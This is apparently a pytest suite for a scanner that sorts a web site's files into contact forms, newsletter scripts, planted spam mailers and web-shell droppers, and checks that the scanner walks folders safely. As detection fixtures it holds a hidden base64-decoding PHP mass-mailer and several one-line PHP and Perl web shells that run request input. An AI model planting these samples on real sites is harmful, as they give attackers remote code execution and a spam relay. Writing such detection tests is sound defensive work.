"""A site's folder: what matters in it is found, nothing outside is touched, nothing hangs."""

from __future__ import annotations

import os
import time
from pathlib import Path

import pytest

from modori.evidence import facts, sniff
from modori.knowledge import table
from modori.types import Problem, SiteFile
from tests.evidence.papers import folder

OLD = time.mktime((2025, 11, 28, 9, 0, 0, 0, 0, 0))

FORM = """<?php
$mail = str_replace(array("\\r", "\\n"), "", $_POST["email"]);
mb_send_mail("shop@farm.example", "Inquiry from " . $_POST["name"], $_POST["text"], "From: shop@farm.example");
mb_send_mail($mail, "Thank you for your inquiry", "We will answer within two days.", "From: shop@farm.example");
"""
MAILER = """<?php
@ini_set('display_errors', 0);
if (!isset($_POST['q'])) { header('HTTP/1.0 404 Not Found'); exit; }
$job = unserialize(gzinflate(base64_decode($_POST['q'])));
foreach ($job['list'] as $one) { mail($one, $job['subject'], $job['text'], $job['head']); }
"""
NEWSLETTER = """#!/usr/bin/perl
read(STDIN, $buffer, $ENV{'CONTENT_LENGTH'});
foreach my $to (split(/\\n/, $in{'list'})) {
  open(MAIL, "| /usr/sbin/sendmail -t -i") || die;
  print MAIL "From: shop\\@farm.example\\nTo: $to\\nX-Mailer: FarmMail 1.2\\nSubject: $in{'subject'}\\n\\n$in{'body'}\\n";
  close(MAIL);
}
"""


def put(root: Path, path: str, text: str = "", when: float = OLD) -> None:
    file = root / path
    file.parent.mkdir(parents=True, exist_ok=True)
    file.write_text(text, "utf-8")
    os.utime(file, (when, when))


def found(root: Path, problems: list[Problem] | None = None) -> dict[str, SiteFile]:
    assert sniff(folder(str(root))) == "site"
    heard: list[Problem] = [] if problems is None else problems
    return {fact.path: fact for fact in facts(folder(str(root)), "site", heard.append) if isinstance(fact, SiteFile)}


def ordinary(root: Path) -> None:
    for number in range(12):
        put(root, f"page{number}.html", "<html>hello</html>")
    put(root, "img/logo.png", "png")


def test_a_dropped_mailer_is_told_from_the_form_beside_it(tmp_path: Path) -> None:
    ordinary(tmp_path)
    put(tmp_path, "contact.php", FORM)
    put(tmp_path, "wp-content/uploads/2025/05/cache.php", MAILER, OLD + 200 * 86400)
    files = found(tmp_path)
    assert files.keys() == {"contact.php", "wp-content/uploads/2025/05/cache.php"}
    assert (files["contact.php"].kind, files["contact.php"].risk) == ("form-mailer", 0.2)
    dropped = files["wp-content/uploads/2025/05/cache.php"]
    assert dropped.kind == "mailer"
    assert dropped.risk == 1.0
    assert dropped.when == OLD + 200 * 86400
    assert {"mails-decoded-request", "odd-folder", "newer-than-neighbours", "poses-as-missing", "out-of-month"} <= set(
        dropped.marks
    )


def test_a_newsletter_program_without_a_login(tmp_path: Path) -> None:
    ordinary(tmp_path)
    put(tmp_path, "cgi-bin/mag/send.cgi", NEWSLETTER)
    file = found(tmp_path)["cgi-bin/mag/send.cgi"]
    assert (file.kind, file.product, file.version) == ("newsletter-cgi", "FarmMail", "1.2")
    assert {"no-login", "recipients-from-request"} <= set(file.marks)


def test_today_s_perl_opens_the_pipe_with_three_arguments_and_keeps_the_list_in_a_variable(tmp_path: Path) -> None:
    ordinary(tmp_path)
    modern = NEWSLETTER.replace('open(MAIL, "| /usr/sbin/sendmail -t -i")', "open(my $m, '|-', '/usr/sbin/sendmail', '-t')")
    modern = modern.replace("foreach my $to (split", "my @to = split(/ /, $in{'list'});\nforeach my $to (@to) { #")
    put(tmp_path, "cgi-bin/mag/send.cgi", modern)
    assert {"no-login", "recipients-from-request"} <= set(found(tmp_path)["cgi-bin/mag/send.cgi"].marks)


def test_a_form_that_hands_the_visitor_s_address_on_is_no_newsletter(tmp_path: Path) -> None:
    """The loop that reads the fields is over before anything is sent."""
    ordinary(tmp_path)
    lines = [
        "#!/usr/bin/perl",
        "read(STDIN, my $body, $ENV{CONTENT_LENGTH});",
        "for my $pair (split /&/, $body) { my ($k, $v) = split /=/, $pair; $form{$k} = $v; }",
        "deliver($form{mail}, 'Thank you');",
        "sub deliver { open(my $m, '|-', '/usr/sbin/sendmail', '-t'); print $m \"To: $_[0]\\n\"; close($m); }",
    ]
    put(tmp_path, "cgi-bin/contact.cgi", "\n".join(lines))
    file = found(tmp_path)["cgi-bin/contact.cgi"]
    assert (file.kind, "answers-visitor" in file.marks) == ("form-mailer", True)


@pytest.mark.parametrize(
    ("code", "mark"),
    [
        ("<?php eval($_POST['x']);", "runs-request"),
        ("<?php $f = $_GET['f']; include($f);", "runs-request"),
        ("<?php $_REQUEST['a']($_REQUEST['b']);", "runs-request"),
        ("<?php preg_replace('/.*/e', $_POST['c'], '');", "runs-request"),
        ("<?php eval(gzinflate(base64_decode('eJwr')));", "runs-decoded"),
        ("<?php file_put_contents($_POST['n'], $_POST['c']);", "writes-request"),
        ("#!/usr/bin/perl\nread(STDIN, $b, $ENV{CONTENT_LENGTH});\nsystem(\"$in{'c'}\");\n", "runs-request"),
    ],
)
def test_a_dropper_by_what_it_does(tmp_path: Path, code: str, mark: str) -> None:
    put(tmp_path, "a.php", code)
    file = found(tmp_path)["a.php"]
    assert file.kind == "dropper"
    assert file.risk >= 0.9
    assert mark in file.marks


@pytest.mark.parametrize(
    "code",
    [
        "<?php echo 'hello'; ?>",
        "<?php mail('shop@farm.example', 'Inquiry', $_POST['text']);",
        "<?php // eval($_POST['x']) would be bad\n echo date('Y');",
        "<?php /* eval($_POST['x']); */ include('header.php');",
        "<?php function notify($to) { mail($to, 'News', 'text'); }",
    ],
)
def test_an_honest_page_is_left_alone(tmp_path: Path, code: str) -> None:
    put(tmp_path, "page.php", code)
    assert found(tmp_path) == {}


def installed(root: Path, entry: dict[str, object], version: str) -> None:
    names = entry["files"]
    assert isinstance(names, list)
    for name in names:
        put(root, f"mail/{name}" if "." in name.rpartition("/")[2] else f"mail/{name}.pm", f"# {version}")


@pytest.mark.parametrize("product", table("newsletters"))
def test_a_known_program_is_named_by_its_files(tmp_path: Path, product: str) -> None:
    entry = table("newsletters")[product]
    installed(tmp_path, entry, " ".join(entry["words"]))
    names = {(file.product, file.kind) for file in found(tmp_path).values()}
    assert (entry["name"], entry["kind"]) in names


@pytest.mark.parametrize(("version", "holes"), [("3.8.15", 2), ("4.0.2", 1), ("4.1.0", 0)])
def test_the_version_tells_the_known_holes(tmp_path: Path, version: str, holes: int) -> None:
    installed(tmp_path, table("newsletters")["acmailer"], f"CGI acmailer{version}")
    files = found(tmp_path)
    main = files["mail/init_ctl.cgi"]
    assert main.version == version
    assert sum(mark.startswith("CVE-") for mark in main.marks) == holes
    assert "installer-left" in main.marks
    assert files["mail/install.cgi"].kind == "installer"


def test_a_copy_that_lost_its_times_says_nothing_of_them(tmp_path: Path) -> None:
    ordinary(tmp_path)
    put(tmp_path, "contact.php", FORM)
    assert found(tmp_path)["contact.php"].when is None


def test_no_link_is_followed_and_no_pipe_is_opened(tmp_path: Path) -> None:
    outside, site = tmp_path / "outside", tmp_path / "site"
    put(outside, "shell.php", "<?php eval($_POST['x']);")
    put(site, "index.php", "<?php echo 1;")
    (site / "loop").symlink_to(site)
    (site / "out").symlink_to(outside)
    (site / "shell.php").symlink_to(outside / "shell.php")
    os.mkfifo(site / "pipe.php")
    problems: list[Problem] = []
    assert found(site, problems) == {}
    assert problems == []


def test_a_deep_tree_is_one_problem(tmp_path: Path) -> None:
    deep = tmp_path
    for _ in range(60):
        deep = deep / "d"
    deep.mkdir(parents=True)
    problems: list[Problem] = []
    assert found(tmp_path, problems) == {}
    assert [problem.id for problem in problems] == ["site-too-big"]


def test_a_huge_program_is_read_in_part(tmp_path: Path) -> None:
    put(tmp_path, "big.php", "<?php eval($_POST['x']);")
    with (tmp_path / "big.php").open("r+b") as file:
        file.truncate(8 * 1024**3)
    assert found(tmp_path)["big.php"].kind == "dropper"


def test_a_name_that_is_no_text_is_shown_all_the_same(tmp_path: Path) -> None:
    with open(os.fsencode(tmp_path) + b"/\xff.php", "w") as file:
        file.write("<?php eval($_POST['x']);")
    assert [file.path.encode("utf-8").decode() for file in found(tmp_path).values()] == ["\ufffd.php"]
